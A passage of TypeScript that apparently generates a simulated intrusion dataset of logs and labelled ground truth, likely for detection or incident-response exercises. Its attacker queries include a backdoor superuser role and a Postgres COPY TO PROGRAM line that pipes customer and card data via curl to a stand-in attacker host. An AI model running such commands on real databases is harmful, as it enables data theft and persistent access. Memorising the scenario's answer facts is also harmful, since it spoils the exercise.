            ? { start: t, dur: rng.int(2_000, 9_000), src: web.privateIp, sport: ephemeralPort(rng), dst: target, dport: port, proto: 'tcp', origPkts: 3, origIpBytes: 3 * 52, respPkts: 2, respIpBytes: 2 * 52 + (port === 22 ? 21 : 0) }
            : { start: t, dur: rng.int(1_000_000, 3_000_000), src: web.privateIp, sport: ephemeralPort(rng), dst: target, dport: port, proto: 'tcp', origPkts: 2, origIpBytes: 120, respPkts: 0, respIpBytes: 0 },
          rng, T('recon', 'T1046'),
        );
        m.items.push(...vpc.filter((v) => v.eni === web.eni && v.src === web.privateIp));
        m.targets.add(target);
        m.ports.add(port);
        t += rng.int(120_000, 380_000);
      }
    }
    key(m.items[0]!, 'internal sweep of 10.0.2.0/24 (ports 22, 5432) from web-01 begins');
    key(m.items[m.items.length - 1]!, 'internal sweep from web-01 ends');
    S.mapping.push(m);
  });
  S.within([eHostW, eHostD, eDeployW], () => {
    const r = sshKeyRejected(ctx(T('actions', 'T1021.004')), 'db-01', 'deploy', web.privateIp, at(1, 1, 2, 23, 2));
    key(r, 'SSH from web-01 to db-01 as deploy refused (key not authorized)');
  });

  const pgc = (tag: Tag): PgCtx => ({ E, rng, tag });
  const queries: { t: number; sql: string; tag: Tag; tables: string[]; cls: string[] }[] = [];
  const q = (t: number, tag: Tag, sql: string, tables: string[], cls: string[]) => queries.push({ t, sql, tag, tables, cls });
  S.within([eHostW, eHostD, eShopApp], () => {
    const pid = E.pids['db-01'].reserve(E.pids['db-01'].around(at(1, 1, 2, 24, 40)) + rng.int(0, 2));
    const port = ephemeralPort(rng);
    const { session, items } = pgConnect(pgc(T('access', 'T1078')), { t: at(1, 1, 2, 24, 40) + rng.int(100_000, 900_000), pid, user: DB.appRole, client: web.privateIp, port, app: 'psql' });
    S.name('db_access', items[2]!, 'psql from web-01 as shop_app (application_name=psql)');
    const ms = (mi: number, s: number) => at(1, 1, 2, mi, s) + rng.int(1, 999) * 1000;
    q(ms(24, 52), T('recon', 'T1082'), 'SELECT current_user, session_user, inet_server_addr(), version();', [], ['catalog_recon']);
    q(ms(25, 3), T('recon', 'T1083'), PSQL_LIST_DATABASES, ['pg_catalog.pg_database'], ['catalog_recon']);
    q(ms(25, 20), T('recon', 'T1083'), PSQL_LIST_TABLES, ['pg_catalog.pg_class', 'pg_catalog.pg_namespace', 'pg_catalog.pg_am'], ['catalog_recon']);
    q(ms(26, 2), T('recon', 'T1087'), PSQL_LIST_ROLES, ['pg_catalog.pg_roles'], ['catalog_recon']);
    q(ms(27, 15), T('recon', 'T1083'), "SELECT table_name, column_name, data_type FROM information_schema.columns WHERE table_schema = 'public' ORDER BY table_name, ordinal_position;", ['information_schema.columns'], ['catalog_recon']);
    q(ms(28, 40), T('recon', 'T1083'), 'SELECT count(*) FROM public.customers;', ['public.customers'], ['recon']);
    q(ms(28, 55), T('recon', 'T1083'), 'SELECT count(*) FROM public.payment_methods;', ['public.payment_methods'], ['recon']);
    q(ms(29, 30), T('exfiltration', 'T1213'), 'SELECT * FROM public.customers LIMIT 5;', ['public.customers'], ['read']);
    q(ms(31, 2), T('recon', 'T1087'), 'SELECT rolname, rolsuper, rolcreaterole FROM pg_catalog.pg_roles WHERE rolname = current_user;', ['pg_catalog.pg_roles'], ['catalog_recon']);
    const bad = `CREATE ROLE pg_sync WITH LOGIN SUPERUSER PASSWORD '${dbsyncPassword}';`;
    q(ms(33, 20), T('actions', 'T1136'), bad, [], ['role_change']);
    q(ms(33, 41), T('actions', 'T1136'), `CREATE ROLE dbsync WITH LOGIN SUPERUSER PASSWORD '${dbsyncPassword}';`, [], ['role_change']);
    q(ms(36, 5), T('exfiltration', 'T1213'), 'COPY public.customers TO STDOUT WITH (FORMAT csv, HEADER);', ['public.customers'], ['bulk_read', 'export']);
    q(ms(39, 48), T('exfiltration', 'T1213'), 'COPY public.orders TO STDOUT WITH (FORMAT csv, HEADER);', ['public.orders'], ['bulk_read', 'export']);
    q(ms(42, 30), T('exfiltration', 'T1213'), 'SELECT * FROM public.payment_methods;', ['public.payment_methods'], ['bulk_read']);
    q(ms(44, 18), T('exfiltration', 'T1048.002'),
      `COPY (SELECT c.id, c.email, c.full_name, p.card_brand, p.card_last4, p.card_exp_month, p.card_exp_year, p.billing_zip\n      FROM public.payment_methods p JOIN public.customers c ON c.id = p.customer_id)\n  TO PROGRAM 'gzip | curl -sk -T - https://${ATTACKER.exfilIp2}/u/pm.csv.gz';`,
      ['public.payment_methods', 'public.customers'], ['bulk_read', 'export']);
    const dataItems: Record<string, Item[]> = {};
    for (const x of queries) {
      const item = pgStatement(pgc(x.tag), session, x.t, x.sql);
      key(item, `shop_app@shop: ${x.sql.split('\n')[0]!.slice(0, 90)}`);
      S.dbQueries.push({ item, database: DB.name, role: DB.appRole, client: web.privateIp, session: pid, tables: x.tables, classification: x.cls, statement: x.sql });
      // Statements that returned the table's rows (not counts, not the catalog).
      const readsRows = x.cls.some((c) => c === 'read' || c === 'bulk_read' || c === 'export');
      if (readsRows) for (const tb of x.tables) if (tb.startsWith('public.')) (dataItems[tb] ??= []).push(item);
      if (x.sql === bad) {
        key(pgError(pgc(x.tag), session, x.t + rng.int(300, 2_000), 'role name "pg_sync" is reserved', 'Role names starting with "pg_" are reserved.', x.sql), 'CREATE ROLE pg_sync fails: reserved name');
      }
      if (x.sql.startsWith('CREATE ROLE dbsync')) {
        S.group(eDbsync).push(item);
        S.backdoors.push({ kind: 'db_role', value: 'dbsync', host: 'db-01', createdBy: DB.appRole, created: item, afterContainment: [] });
        S.credentials.push({ kind: 'db_password', value: 'dbsync', host: 'db-01', reason: 'superuser role created by the attacker (drop it)', items: [item] });
      }
    }
    S.data.push({ kind: 'db_table', value: 'public.customers', host: 'db-01', access: 'export', rows: null, bytes: null, items: dataItems['public.customers']! });
    S.data.push({ kind: 'db_table', value: 'public.orders', host: 'db-01', access: 'export', rows: null, bytes: null, items: dataItems['public.orders']! });
    S.data.push({ kind: 'db_table', value: 'public.payment_methods', host: 'db-01', access: 'export', rows: null, bytes: null, items: dataItems['public.payment_methods']! });
    const end = at(1, 1, 2, 49, 12) + rng.int(0, 999) * 1000;
    key(pgDisconnect(pgc(T('exfiltration', 'T1213')), session, end), 'psql session of shop_app from web-01 ends');
    // The session's traffic: the COPY output flows back to web-01.
    E.conn(
      { start: session.start - 2_000, dur: end - session.start + 4_000, src: web.privateIp, sport: port, dst: db.privateIp, dport: 5432, proto: 'tcp', origPkts: 2_310, origIpBytes: 2_310 * 52 + 18_400, respPkts: 74_880, respIpBytes: 104_391_220 },
      rng, T('exfiltration', 'T1213'),
    );
    // COPY … TO PROGRAM: curl on db-01 uploads the payment-method export.
    S.within([eEx2], () => {
      const copyAt = queries[queries.length - 1]!.t;
      const { vpc, zeek } = E.conn(
        { start: copyAt + rng.int(200_000, 600_000), dur: 12 * SEC + rng.int(0, 999_999), src: db.privateIp, sport: ephemeralPort(rng), dst: ATTACKER.exfilIp2, dport: 443, proto: 'tcp', origPkts: 1_712, origIpBytes: 2_381_904, respPkts: 402, respIpBytes: 29_814, service: 'ssl', history: 'ShADadFf', state: 'SF' },
        rng, T('exfiltration', 'T1048.002'),
      );
      key(vpc[0]!, 'db-01 uploads the payment-method export to 198.51.100.14:443 (VPC flow)');
      key(zeek!, 'db-01 → 198.51.100.14:443 (Zeek)');
      addExfil(S, ATTACKER.exfilIp2, 'db-01', vpc, zeek);
    });
  });
  S.ipRole(ATTACKER.exfilIp2, 'exfil_destination');

  // dbsync tried once.
  S.within([eHostW, eHostD, eDbsync], () => {
    const pid = E.pids['db-01'].reserve(E.pids['db-01'].around(at(1, 1, 2, 52, 30)) + rng.int(0, 2));
    const port = ephemeralPort(rng);
    const { session, items } = pgConnect(pgc(T('actions', 'T1078')), { t: at(1, 1, 2, 52, 30) + rng.int(1, 999) * 1000, pid, user: 'dbsync', client: web.privateIp, port, app: 'psql' });
    key(items[2]!, 'psql from web-01 as the new role dbsync');
    const st = pgStatement(pgc(T('actions', 'T1078')), session, at(1, 1, 2, 52, 36) + rng.int(1, 999) * 1000, 'SELECT current_user, usesuper FROM pg_catalog.pg_user WHERE usename = current_user;');
    key(st, 'dbsync checks it is a superuser');
    S.dbQueries.push({ item: st, database: DB.name, role: 'dbsync', client: web.privateIp, session: pid, tables: ['pg_catalog.pg_user'], classification: ['catalog_recon'], statement: 'SELECT current_user, usesuper FROM pg_catalog.pg_user WHERE usename = current_user;' });
    pgDisconnect(pgc(T('actions', 'T1078')), session, at(1, 1, 2, 52, 41) + rng.int(1, 999) * 1000);
    E.conn(
      { start: session.start - 2_000, dur: 11 * SEC, src: web.privateIp, sport: port, dst: db.privateIp, dport: 5432, proto: 'tcp', origPkts: 22, origIpBytes: 22 * 52 + 1_900, respPkts: 18, respIpBytes: 18 * 52 + 3_300 },
      rng, T('actions', 'T1078'),
    );
  });

  // web-01 → 198.51.100.9:443: the staged exports leave.
  S.within([eHostW, eEx1], () => {
    const up = (t: number, bytes: number, label: string) => {
      const pkts = Math.ceil(bytes / 1_388);
      const { vpc, zeek } = E.conn(
        { start: t, dur: Math.round((bytes / 1_150_000) * SEC) + rng.int(0, 999_999), src: web.privateIp, sport: ephemeralPort(rng), dst: ATTACKER.exfilIp, dport: 443, proto: 'tcp', origPkts: pkts, origIpBytes: bytes, respPkts: Math.ceil(pkts / 4), respIpBytes: Math.ceil(pkts / 4) * 52 + 6_200, service: 'ssl', history: 'ShADadFf', state: 'SF' },
        rng, T('exfiltration', 'T1048.002'),
      );
      key(vpc[0]!, `web-01 uploads ${label} to 198.51.100.9:443 (VPC flow)`);
      key(zeek!, `web-01 → 198.51.100.9:443, ${label} (Zeek)`);
      addExfil(S, ATTACKER.exfilIp, 'web-01', vpc, zeek);
    };
    up(at(1, 1, 2, 55, 10) + rng.int(0, 999_999), 10_284_417, 'customers.csv.gz');
    up(at(1, 1, 2, 57, 2) + rng.int(0, 999_999), 22_750_906, 'orders.csv.gz');
  });
  S.ipRole(ATTACKER.exfilIp, 'exfil_destination');

  // ---- 2 Jan, before detection: back in through the backdoor account ---------------------------
  S.within([eA, eHostB, eSysupdate], () => {
    const s3 = sshLogin(ctx(T('access', 'T1078.003')), {
      host: 'bastion-01', user: 'sysupdate', uid: UIDS.sysupdate!, method: 'password', src: A, start: at(1, 2, 7, 38, 20), end: at(1, 2, 7, 44, 51), dstIp: bastion.privateIp,
    });
    key(s3.accepted, 'login as the backdoor account sysupdate from 203.0.113.77');
    const c = ctx(T('actions', 'T1548.003'));
    key(sudo(c, at(1, 2, 7, 39, 10), { host: 'bastion-01', user: 'sysupdate', uid: UIDS.sysupdate!, tty: 'pts/0', pwd: '/home/sysupdate', command: 'list' }), 'sudo -l as sysupdate');
    key(sudo(ctx(T('recon', 'T1654')), at(1, 2, 7, 40, 2), { host: 'bastion-01', user: 'sysupdate', uid: UIDS.sysupdate!, tty: 'pts/0', pwd: '/home/sysupdate', command: `${bin('bastion-01', 'tail')} -n 200 /var/log/auth.log` }), 'sysupdate reads the tail of auth.log');
  });

  // ---- after containment: the back doors ----------------------------------------------------
  S.within([eA, eHostB], () => {
    const root = S.within([], () => {
      const pid = E.pids['bastion-01'].reserve(E.pids['bastion-01'].around(at(1, 2, 14, 4, 30)) + rng.int(0, 2));
      const sport = ephemeralPort(rng);
      const t = at(1, 2, 14, 4, 30) + rng.int(200_000, 700_000);
      const item = E.auth('bastion-01', t, 'sshd', pid, `Connection closed by ${A} port ${sport} [preauth]`, T('access', 'T1098.004'));
      E.conn({ start: t - 400_000, dur: 430_000, src: A, sport, dst: bastion.privateIp, dport: 22, proto: 'tcp', origPkts: 13, origIpBytes: 13 * 52 + 2_350, respPkts: 11, respIpBytes: 11 * 52 + 2_880, service: 'ssh', history: 'ShAdDaFf', state: 'SF' }, rng, T('access', 'T1098.004'));
      return item;
    });
    key(root, 'after containment: root login with the planted key refused (key removed)');
    S.backdoors.find((b) => b.kind === 'ssh_authorized_key')!.afterContainment.push({ item: root, success: false });
    const sys = S.within([eSysupdate], () => sshFailed(ctx(T('access', 'T1078.003')), { host: 'bastion-01', user: 'sysupdate', invalid: true, src: A, start: at(1, 2, 14, 5, 12), attempts: 1, leave: 'bye' }));
    key(sys.lines.find((l) => l.msg.startsWith('Failed password'))!, 'after containment: SSH as sysupdate fails (user deleted)');
    S.backdoors.find((b) => b.kind === 'local_user')!.afterContainment.push({ item: sys.first, success: false });
    const dep = S.within([eDeployB], () => sshFailed(ctx(T('access', 'T1078.003')), { host: 'bastion-01', user: 'deploy', invalid: false, src: A, start: at(1, 2, 14, 6, 40), attempts: 2, leave: 'close' }));
    key(dep.lines.find((l) => l.msg.startsWith('Failed password'))!, 'after containment: SSH as deploy fails (password locked)');
  });
  const consoleKey = rng.accessKeyId('ASIA');
  const eKey3 = S.entity('access_key', consoleKey, null, ['console_session'], 'console session credentials of support-audit after containment');
  S.within([eCloud, eSupport, eKey3], () => {
    const t0 = at(1, 2, 16, 47, 3);
    const login = E.ct(t0, GLOBAL_REGION, ctRecord(rng, {
      t: t0, identity: iamUser('support-audit', supportId), source: 'signin.amazonaws.com', name: 'ConsoleLogin', region: GLOBAL_REGION, ip: CIP, ua: UA.browser,
      resp: { ConsoleLogin: 'Success' },
      extra: { LoginTo: 'https://console.aws.amazon.com/console/home?hashArgs=%23&isauthcode=true&state=hashArgsFromTB_eu-central-1_4a2b1c9d8e7f6a5b', MobileVersion: 'No', MFAUsed: 'No' },
      readOnly: false, eventType: 'AwsConsoleSignIn', host: 'signin.aws.amazon.com', version: '1.09',
    }), T('access', 'T1078.004'));
    key(login, 'after containment: ConsoleLogin of the backdoor user support-audit succeeds (no MFA)');
    for (const b of S.backdoors) if (b.kind === 'iam_user' || b.kind === 'iam_login_profile') b.afterContainment.push({ item: login, success: true });
    const cid = iamUser('support-audit', supportId, consoleKey, { creationDate: new Date(t0 / 1000).toISOString().replace(/\.\d+Z$/, 'Z'), mfa: false });
    const cons = (t: number, source: string, name: string, o: Partial<Parameters<typeof ctRecord>[1]>, tag: Tag) =>
      E.ct(t, REGION, ctRecord(rng, { t, identity: cid, source, name, ip: CIP, ua: UA.browser, readOnly: true, console: true, host: `${source.split('.')[0]}.${REGION}.amazonaws.com`, ...o }), tag);
    key(cons(at(1, 2, 16, 47, 41), 's3.amazonaws.com', 'ListBuckets', { req: { Host: `s3.${REGION}.amazonaws.com` }, host: `s3.${REGION}.amazonaws.com` }, T('recon', 'T1619')), 'console: ListBuckets');
    key(E.ct(at(1, 2, 16, 48, 15), REGION, s3DataEvent(rng, { t: at(1, 2, 16, 48, 15), identity: cid, ip: CIP, ua: `[${UA.browser}]`, name: 'ListObjects', bucket: BUCKETS.exports, prefix: 'exports/2025/12/', console: true }), T('recon', 'T1619')), 'console: ListObjects acme-customer-exports');
    const k = 'exports/2025/12/payment-reconciliation-2025-12.xlsx';
    const bytes = 3_481_215;
    const g = E.ct(at(1, 2, 16, 49, 2), REGION, s3DataEvent(rng, { t: at(1, 2, 16, 49, 2), identity: cid, ip: CIP, ua: `[${UA.browser}]`, name: 'GetObject', bucket: BUCKETS.exports, key: k, bytesOut: bytes, console: true }), T('exfiltration', 'T1530'));
    key(g, `console: GetObject s3://${BUCKETS.exports}/${k}`);
    S.data.push({ kind: 's3_object', value: `s3://${BUCKETS.exports}/${k}`, host: null, access: 'read', rows: null, bytes, items: [g] });
    key(cons(at(1, 2, 16, 51, 20), 'ec2.amazonaws.com', 'DescribeInstances', { req: { instancesSet: {}, filterSet: {} } }, T('recon', 'T1580')), 'console: DescribeInstances (last attacker activity)');
  });

  S.ipRole(A, 'scanner', 'login_source', 'backdoor_user');
  S.ipRole(ATTACKER.cloudIp, 'api_caller', 'backdoor_user');
  const facts: AttackFacts = { createdKey, consoleKey, sessionKeys: sessions.map((s) => s.accessKeyId), authorizedKey, dbsyncPassword };
  return { story: S, facts };
}

function addExfil(S: Story, dst: string, host: string, vpc: import('./model.js').VpcItem[], zeek: import('./model.js').ZeekItem | null): void {
  let x = S.exfil.get(dst);
  if (!x) S.exfil.set(dst, (x = { vpc: [], zeek: [], hosts: new Set() }));
  // Only the estate host's egress records count (the ENI of the sender, direction sender → destination).
  x.vpc.push(...vpc.filter((v) => v.dst === dst));
  if (zeek) x.zeek.push(zeek);
  x.hosts.add(host);
}

const PSQL_LIST_DATABASES = `SELECT
  d.datname as "Name",
  pg_catalog.pg_get_userbyid(d.datdba) as "Owner",
  pg_catalog.pg_encoding_to_char(d.encoding) as "Encoding",
  CASE d.datlocprovider WHEN 'c' THEN 'libc' WHEN 'i' THEN 'icu' END AS "Locale Provider",
  d.datcollate as "Collate",
  d.datctype as "Ctype",
  d.daticulocale as "ICU Locale",
  d.daticurules as "ICU Rules",
  pg_catalog.array_to_string(d.datacl, E'\\n') AS "Access privileges"
FROM pg_catalog.pg_database d
ORDER BY 1;`;

const PSQL_LIST_TABLES = `SELECT n.nspname as "Schema",
  c.relname as "Name",
  CASE c.relkind WHEN 'r' THEN 'table' WHEN 'v' THEN 'view' WHEN 'm' THEN 'materialized view' WHEN 'i' THEN 'index' WHEN 'S' THEN 'sequence' WHEN 't' THEN 'TOAST table' WHEN 'f' THEN 'foreign table' WHEN 'p' THEN 'partitioned table' WHEN 'I' THEN 'partitioned index' END as "Type",
  pg_catalog.pg_get_userbyid(c.relowner) as "Owner"
FROM pg_catalog.pg_class c
     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
     LEFT JOIN pg_catalog.pg_am am ON am.oid = c.relam
WHERE c.relkind IN ('r','p','')
      AND n.nspname <> 'pg_catalog'
      AND n.nspname !~ '^pg_toast'
      AND n.nspname <> 'information_schema'
  AND pg_catalog.pg_table_is_visible(c.oid)
ORDER BY 1,2;`;

const PSQL_LIST_ROLES = `SELECT r.rolname, r.rolsuper, r.rolinherit,
  r.rolcreaterole, r.rolcreatedb, r.rolcanlogin,
  r.rolconnlimit, r.rolvaliduntil,
  r.rolreplication,
  r.rolbypassrls
FROM pg_catalog.pg_roles r
WHERE r.rolname !~ '^pg_'
ORDER BY 1;`;
